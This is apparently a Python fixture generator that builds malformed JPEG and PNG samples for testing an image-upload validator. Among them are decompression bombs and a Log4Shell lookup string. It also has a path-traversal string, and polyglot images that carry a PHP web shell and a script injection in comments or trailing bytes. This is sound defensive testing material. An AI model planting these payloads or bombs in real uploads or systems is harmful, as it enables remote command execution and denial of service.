"""Malformed pictures by the thousand: each a name, its bytes, and whether it must be refused."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from itertools import islice
from typing import NamedTuple

import numpy as np
from PIL import Image

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


class Sample(NamedTuple):
    """One file. `refused` None: either answer is right, but only a clean picture may be kept."""

    name: str
    data: bytes
    refused: bool | None = True


def image(size: tuple[int, int] = (400, 320), mode: str = "RGB", seed: int = 0) -> Image.Image:
    """Something with edges and colours."""
    chance = np.random.default_rng(seed)
    small = Image.fromarray(chance.integers(0, 255, (16, 16, 3), dtype=np.uint8))
    return small.resize(size, Image.Resampling.BILINEAR).convert(mode)


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    """Encoded."""
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def chunk(kind: bytes, body: bytes, crc: int | None = None) -> bytes:
    """One PNG chunk."""
    check = zlib.crc32(kind + body) if crc is None else crc
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", check & 0xFFFFFFFF)


def png(width: int, height: int, rows: bytes, *more: bytes, kind: int = 2) -> bytes:
    """A PNG with this header and these packed rows, whether they fit or not."""
    head = struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)
    return PNG_MAGIC + chunk(b"IHDR", head) + b"".join(more) + chunk(b"IDAT", rows) + chunk(
        b"IEND", b""
    )  # fmt: skip


JPEG, PNG = saved(image(), "JPEG", quality=85), saved(image(), "PNG")


def truncated() -> Iterator[Sample]:
    """Cut in the magic, in each header, at segment borders, in the data, before the end."""
    for name, whole in (("jpeg", JPEG), ("png", PNG)):
        cuts = [*range(0, 160, 2), *range(160, len(whole) - 2, max(1, len(whole) // 120))]
        for cut in cuts:
            yield Sample(f"{name} cut at {cut}", whole[:cut])


def wrong_magic() -> Iterator[Sample]:
    """Other formats, other first bytes."""
    picture = image((320, 300))
    for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO", "PPM", "TGA", "PCX"):
        size = (256, 256) if kind == "ICO" else picture.size
        yield Sample(f"a {kind}", saved(picture.resize(size), kind))
    for name, whole in (("jpeg", JPEG), ("png", PNG)):
        for place in range(3 if name == "jpeg" else 8):
            for value in (0, 0x20, 0xFE):
                changed = bytearray(whole)
                changed[place] = value
                yield Sample(f"{name} byte {place} is {value}", bytes(changed))
        for lead in (b"\n", b"\x00", b" ", b"\xef\xbb\xbf", b"GIF89a", b"%PDF-1.7\n", b"BM"):
            yield Sample(f"{lead!r} before {name}", lead + whole)
    yield Sample("jpeg's magic on a png", b"\xff\xd8\xff" + PNG[3:])
    yield Sample("png's magic on a jpeg", PNG_MAGIC + JPEG)


def nothing_much() -> Iterator[Sample]:
    """Empty, text, scripts, noise."""
    chance = random.Random(1)
    texts = ("", " ", "\x00", "hello", "<svg xmlns='http://www.w3.org/2000/svg'/>", "{}", "null",
             "<html></html>", "#!/bin/sh\nid", "%PDF-1.7\n", "data:image/png;base64,iVBORw0KGgo=",
             "../../etc/passwd", "${jndi:ldap://x}", "\ufeffjpeg")  # fmt: skip
    for text in texts:
        yield Sample(f"text {text[:12]!r}", text.encode())
    for length in (1, 2, 3, 4, 7, 8, 12, 64, 4096, 100_000):
        yield Sample(f"{length} zero bytes", bytes(length))
        yield Sample(f"{length} random bytes", b"\x01" + chance.randbytes(length))
        yield Sample(f"magic and {length} zero bytes", b"\xff\xd8\xff" + bytes(length))
        yield Sample(f"png magic and {length} random bytes", PNG_MAGIC + chance.randbytes(length))
        yield Sample(f"magic and {length} random", b"\xff\xd8\xff" + chance.randbytes(length))


def bombs() -> Iterator[Sample]:
    """A few kilobytes that want to become gigabytes."""
    for side in (7_100, 8_000, 12_000, 20_000, 46_000, 65_535, 1_000_000, 2**31 - 1):
        row = zlib.compress(bytes(300_000), 9)
        yield Sample(f"png of {side} x {side}", png(side, side, row))
        yield Sample(f"grey png of {side} x {side}", png(side, side, row, kind=0))
        if side <= 65_535:
            yield Sample(f"jpeg of {side} x {side}", resized_header(JPEG, side, side))
    yield Sample("png 2^31-1 wide", png(2**31 - 1, 1, zlib.compress(b"")))
    yield Sample("png of no size", png(0, 0, zlib.compress(b"")))
    yield Sample("jpeg of no size", resized_header(JPEG, 0, 0))
    million = zlib.compress(bytes(80_000_000), 9)
    for name, body in (
        (b"zTXt", b"Comment\x00\x00" + million),
        (b"iTXt", b"Comment\x00\x01\x00\x00\x00" + million),
        (b"iCCP", b"profile\x00\x00" + million),
    ):
        plain = zlib.compress(b"".join(b"\x00" + bytes(1200) for _ in range(400)))
        yield Sample(f"{name.decode()} of 80 MB", png(400, 400, plain, chunk(name, body)), None)
    yield Sample("rows of 80 MB in a small png", png(400, 400, million), None)


def resized_header(jpeg: bytes, width: int, height: int) -> bytes:
    """A JPEG whose frame header claims another size."""
    at = next(jpeg.find(bytes((0xFF, m))) for m in (0xC0, 0xC2) if jpeg.find(bytes((0xFF, m))) > 0)
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def dimensions() -> Iterator[Sample]:
    """Too small, too thin, too many."""
    for size in ((1, 1), (1, 5000), (5000, 1), (8, 8), (119, 400), (400, 119), (2, 30_000)):
        for kind in ("JPEG", "PNG"):
            yield Sample(f"{kind} of {size}", saved(image(size), kind))
    for width, height in (
        (500, 900),
        (4000, 3000),
        (401, 319),
        (65_500, 700),
        (8000, 6200),
        (2500, 1990),
    ):
        yield Sample(f"header says {width} x {height}", resized_header(JPEG, width, height), None)
    progressive = saved(image(), "JPEG", progressive=True)
    yield Sample("progressive, 8000 x 6200", resized_header(progressive, 8000, 6200), None)
    rows = zlib.compress(b"".join(b"\x00" + bytes(24_000) for _ in range(3_100)))
    yield Sample("png of 8000 x 3100", png(8000, 3100, rows), None)
    tags = Image.Exif()
    tags[0x0112] = 6  # a large picture that must be turned as well
    yield Sample("large and lying", saved(image((2500, 1990)), "JPEG", exif=tags.tobytes()), None)
    yield Sample("large with alpha", saved(image((2500, 1990), "RGBA"), "PNG"), None)


def animated() -> Iterator[Sample]:
    """APNGs, also hidden behind a plain first picture."""
    frames = [image(seed=n) for n in range(4)]
    for count in range(2, 5):
        for default in (False, True):
            data = saved(
                frames[0], "PNG", save_all=True, append_images=frames[1:count],
                default_image=default,
            )  # fmt: skip
            yield Sample(f"apng of {count}, default image {default}", data)
    for count in (2, 1000, 2**31):
        control = chunk(b"acTL", struct.pack(">II", count & 0x7FFFFFFF, 0))
        rows = zlib.compress(b"".join(b"\x00" + bytes(1200) for _ in range(400)))
        yield Sample(f"acTL of {count}", png(400, 400, rows, control), None)


PAYLOAD = b"<script>alert('polyglot')</script>"


def polyglots() -> Iterator[Sample]:
    """Pictures that are something else, too."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("run.class", b"\xca\xfe\xba\xbe")
    others = {
        "zip": packed.getvalue(),
        "html": b"<!DOCTYPE html><html>" + PAYLOAD + b"</html>",
        "php": b"<?php system($_GET['c']); ?>",
        "script": PAYLOAD,
        "rar": b"Rar!\x1a\x07\x00",
        "7z": b"7z\xbc\xaf\x27\x1c\x00",
    }
    for name, body in others.items():
        yield Sample(f"jpeg then {name}", JPEG + body)
        yield Sample(f"png then {name}", PNG + body)
        comment = b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body
        if name != "zip":
            yield Sample(f"{name} in a jpeg comment", JPEG[:2] + comment + JPEG[2:])
            text = chunk(b"tEXt", b"Comment\x00" + body)
            yield Sample(f"{name} in a png text", PNG[:33] + text + PNG[33:])
    pdf = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n"
    comment = b"\xff\xfe" + struct.pack(">H", len(pdf) + 2) + pdf
    yield Sample("pdf in a jpeg comment", JPEG[:2] + comment + JPEG[2:])
    for length in (1, 100, 20_000):  # what phones append
        yield Sample(f"jpeg and {length} bytes of padding", JPEG + bytes(length), None)


def exif() -> Iterator[Sample]:
    """Orientations there are and are not, broken directories, a place on earth."""
    for orientation in range(-1, 20):
        tags = Image.Exif()
        tags[0x0112] = max(orientation, 0)
        tags[0x010E] = "secret description"
        tags[0x8825] = {1: "N", 2: (37.0, 58.0, 30.0)}
        yield Sample(
            f"orientation {orientation}", saved(image(), "JPEG", exif=tags.tobytes()), None
        )
    whole = Image.Exif()
    whole[0x0112] = 6
    body = whole.tobytes()
    chance = random.Random(2)
    for number in range(220):
        broken = bytearray(body)
        for _ in range(chance.randint(1, 6)):
            broken[chance.randrange(6, len(broken))] = chance.randrange(256)
        yield Sample(f"broken exif {number}", saved(image(), "JPEG", exif=bytes(broken)), None)
    for length in (0, 1, 5, 6, 7, 13, 20, 60_000):
        data = b"Exif\x00\x00" + b"MM\x00*" + bytes(length)
        yield Sample(f"exif of {length} zeros", saved(image(), "JPEG", exif=data), None)


def damaged(count: int) -> Iterator[Sample]:
    """Bytes flipped, cut out, doubled anywhere behind the magic."""
    chance = random.Random(3)
    bases = [
        JPEG, PNG, saved(image(), "JPEG", progressive=True), saved(image(mode="CMYK"), "JPEG"),
        saved(image(mode="L"), "PNG"), saved(image(mode="P"), "PNG"),
        saved(image(mode="RGBA"), "PNG"), saved(image(mode="I;16"), "PNG"),
    ]  # fmt: skip
    for number in range(count):
        data = bytearray(bases[number % len(bases)])
        for _ in range(chance.choice((1, 1, 2, 5, 40))):
            place = chance.randrange(8, len(data))
            what = chance.random()
            if what < 0.6:
                data[place] = chance.randrange(256)
            elif what < 0.8:
                del data[place : place + chance.randint(1, 50)]
            else:
                data[place:place] = data[place : place + chance.randint(1, 50)]
        yield Sample(f"damaged {number}", bytes(data), None)


def every(damaged_count: int, one_in: int = 1) -> Iterator[Sample]:
    """All of it; of the kinds whose pictures are mostly decoded whole, which takes long, every
    `one_in`-th.
    """
    for kind in (truncated, wrong_magic, nothing_much, bombs, dimensions, animated, polyglots):
        yield from kind()
    yield from islice(exif(), 0, None, one_in)
    yield from islice(damaged(damaged_count), 0, None, one_in)
